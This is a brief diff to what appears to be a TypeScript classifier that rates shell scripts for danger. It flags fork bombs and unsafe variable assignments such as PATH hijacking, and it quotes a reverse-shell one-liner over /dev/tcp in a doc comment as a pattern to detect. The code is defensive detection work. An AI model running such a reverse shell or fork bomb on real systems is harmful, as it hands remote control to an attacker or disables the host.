@@ -277,6 +277,7 @@ export function classifyUnits(
   for (const fn of index.forkBombs()) best.consider(3, "fork_bomb", fn);
   // A variable set for the rest of the script (`PATH=/tmp/x`, `GIT_DIR=…`) changes what later commands run.
   for (const a of script.assigns) if (!safeVariable(a.name, a.value)) best.doubt();
+  if (script.arithmeticNames) best.doubt();
 }
 
 /** `bash -i >& /dev/tcp/host/port 0>&1`: a shell wired to a socket runs whatever the far end sends. */
